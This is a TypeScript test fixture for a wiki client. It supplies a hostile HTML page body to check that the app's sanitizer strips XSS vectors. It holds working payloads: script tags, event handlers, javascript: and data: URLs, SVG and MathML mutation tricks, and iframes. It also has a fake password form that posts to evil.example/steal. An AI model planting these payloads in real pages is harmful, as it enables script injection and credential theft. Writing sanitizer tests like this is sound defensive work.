/**
 * The hostile-markup fixture. Its revision carries `htmlOverride`: the REST API serves this HTML as the
 * page body verbatim, standing in for a compromised or buggy upstream, so the app's sanitizer can be
 * proven against every classic XSS vector (script, handlers, javascript:/data: URLs, SVG and MathML
 * tricks, styles, frames, forms) and against off-wiki links.
 */
export const HOSTILE_MARKUP_WIKITEXT = `This page is a '''test fixture''' for HTML sanitizers. Its rendered HTML is replaced by hostile markup.

== Why ==
A client that shows Parsoid HTML must never trust it blindly. See [[Solar System]] for a normal article.
`;

export const HOSTILE_MARKUP_HTML = [
  `<section data-mw-section-id="0" id="mwAQ">`,
  `<p id="intro">This page is a <b>test fixture</b> for HTML sanitizers. A normal link: <a rel="mw:WikiLink" href="./Solar_System" title="Solar System">Solar System</a>.</p>`,
  `<script>window.__hostile = "inline-script"; alert("script tag")</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src="x" onerror="window.__hostile='img-onerror'; alert('onerror')" alt="broken image with onerror"/>`,
  `<p onclick="alert('onclick')" onmouseover="alert('onmouseover')">Paragraph with event handlers.</p>`,
  `<a href="javascript:alert('javascript-url')">javascript: link</a> `,
  `<a href="JaVaScRiPt&#58;alert('mixed-case entity')">obfuscated javascript: link</a> `,
  `<a href="&#x6A;avascript:alert('hex entity')">entity-encoded javascript: link</a> `,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YS11cmwnKTwvc2NyaXB0Pg==">data: link</a> `,
  `<a href="vbscript:msgbox('vbscript')">vbscript: link</a>`,
  `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert('svg-onload')"><script>alert('svg-script')</script>`,
  `<a xlink:href="javascript:alert('svg-xlink')" xmlns:xlink="http://www.w3.org/1999/xlink"><text x="0" y="10">svg link</text></a>`,
  `<animate attributeName="href" to="javascript:alert('svg-animate')"/><foreignObject><iframe src="javascript:alert('foreign')"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="alert('mathml-mxss')"></style></mglyph></table></mtext></math>`,
  `<math><mi xlink:href="javascript:alert('mathml-href')">x</mi><maction actiontype="statusline">y</maction></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert('noscript-mxss')>">noscript</p></noscript>`,
  `<style>body { background: url("javascript:alert('css')"); } .mw-parser-output { display: none !important; }</style>`,
  `<p style="background-image: url(javascript:alert('style-attr')); position: fixed; inset: 0; z-index: 99999">Overlay via style attribute.</p>`,
  `<iframe src="https://evil.example/frame" width="300" height="100"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;"></iframe>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"/>`,
  `<form action="https://evil.example/steal" method="post"><input name="password" type="password" placeholder="Re-enter your password"/>`,
  `<button formaction="javascript:alert('formaction')">Submit</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"/>`,
  `<base href="https://evil.example/"/>`,
  `<link rel="stylesheet" href="https://evil.example/evil.css"/>`,
  `<p>External link: <a rel="mw:ExtLink nofollow" href="https://evil.example/phish" class="external text">https://evil.example</a>.</p>`,
  `<p>Protocol-relative: <a href="//evil.example/pr">//evil.example</a>. Target blank: <a href="https://evil.example/tab" target="_blank">new tab</a>.</p>`,
  `<details open ontoggle="alert('ontoggle')"><summary>details</summary>toggle</details>`,
  `<video><source onerror="alert('video-source')"></video>`,
  `<div id="mw-content-text" class="mw-parser-output" data-x="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">Clobbering id and escaped attribute.</div>`,
  `</section>`,
].join("\n");
